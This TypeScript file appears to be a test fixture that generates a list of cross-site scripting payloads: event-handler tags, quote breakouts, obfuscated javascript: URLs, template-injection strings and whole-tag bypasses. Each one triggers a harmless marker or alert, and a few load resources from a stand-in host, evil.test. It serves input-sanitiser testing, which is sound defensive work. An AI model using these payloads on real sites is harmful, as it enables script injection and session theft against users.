/** What somebody might type who wants a script to run on another one's screen. Each would set `window.ran` or open a dialog. */
const RUN = 'window.ran=1'
const ALERT = 'alert(1)'

const tags = ['img src=x onerror', 'svg onload', 'body onload', 'video src=x onerror', 'audio src=x onerror', 'iframe onload', 'input autofocus onfocus', 'select autofocus onfocus', 'textarea autofocus onfocus', 'details open ontoggle', 'marquee onstart', 'object data=x onerror', 'embed src=x onload', 'style onload', 'link rel=stylesheet href=x onerror', 'img src onerror', 'svg/onload', 'image src=x onerror', 'a autofocus tabindex=1 onfocus', 'form onsubmit', 'button autofocus onfocus', 'math onmouseover', 'p onpointerenter', 'div onanimationstart', 'x contenteditable autofocus onfocus']
const quotes = ['"', "'", '`', '">', "'>", '"/>', '</title>', '</textarea>', '</style>', '</script>', '-->', ']]>', '</p></div>', '"><!--']
const urls = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', '&#106;avascript:', 'data:text/html,', 'vbscript:', 'blob:', ' javascript:', 'javascript&colon;', '//evil.test/#']
const templates = ['{{constructor.constructor("RUN")()}}', '{{_c.constructor("RUN")()}}', '${RUN}', '#{RUN}', '<%=RUN%>', '[[RUN]]', '{{$emit.constructor`RUN`()}}', '{{toString().constructor.constructor("RUN")()}}', '{%RUN%}', '{{this.constructor.constructor("RUN")()}}', '{{$el.ownerDocument.defaultView.eval("RUN")}}', 'v-html="RUN"', ':onclick="RUN"', '@click="RUN"']
const whole = ['<script>RUN</script>', '<ScRiPt>RUN</sCrIpT>', '<script src=//evil.test></script>', '<script/x>RUN</script>', '<script\n>RUN</script>', '<<script>RUN//<</script>', '<scr<script>ipt>RUN</scr</script>ipt>', '&lt;script&gt;RUN&lt;/script&gt;', '%3Cscript%3ERUN%3C/script%3E', '\\u003cscript\\u003eRUN\\u003c/script\\u003e', '＜script＞RUN＜/script＞', '<svg><script>RUN</script></svg>', '<math><mtext></form><form><mglyph><style></math><img src onerror=RUN>', '<noscript><p title="</noscript><img src=x onerror=RUN>">', '<template><img src=x onerror=RUN></template>', '<meta http-equiv=refresh content="0;url=javascript:RUN">', '<base href=//evil.test/>', '<iframe srcdoc="<script>parent.RUN</script>">', '<svg><animate onbegin=RUN attributeName=x dur=1s>', '<svg><use href="data:image/svg+xml,<svg onload=RUN>">', '<xss style="animation:x" onanimationend=RUN>', '<style>@import "//evil.test"</style>', '<link rel=import href=//evil.test>', '<img srcset=x onerror=RUN>', '<object data="javascript:RUN">', '<a href="javascript:RUN">a</a>', '<form action="javascript:RUN"><button>a', '<isindex type=image src=1 onerror=RUN>', '<!--><img src=x onerror=RUN>', '<![CDATA[<img src=x onerror=RUN>]]>', '<?xml version="1.0"?><img src=x onerror=RUN>', '<svg><a xlink:href="javascript:RUN"><text>a', '<img src=x:x onerror=RUN//', "';RUN//", '";RUN//', '\\";RUN//', "'-RUN-'", '"-RUN-"', '=cmd|RUN', '__proto__', 'constructor']

const both = (text: string, n: number) => text.replaceAll('RUN', n % 2 ? ALERT : RUN)

export const PAYLOADS: string[] = [
  ...tags.map((tag, n) => both(`<${tag}=RUN>`, n)),
  ...quotes.map((quote, n) => both(`${quote}<img src=x onerror=RUN>`, n)),
  ...quotes.map((quote, n) => both(`${quote} onmouseover=RUN autofocus onfocus=RUN x=${quote}`, n)),
  ...urls.map((url, n) => both(`<a href="${url}RUN">a</a>`, n)),
  ...urls.map((url, n) => both(`${url}RUN`, n)),
  ...templates.map(both),
  ...whole.map(both),
]
  // Control characters are refused in a line; that is another test's matter.
  .map((text) => text.replace(/[\t\n]/g, ' ').trim())
  .filter((text) => text.length <= 100)
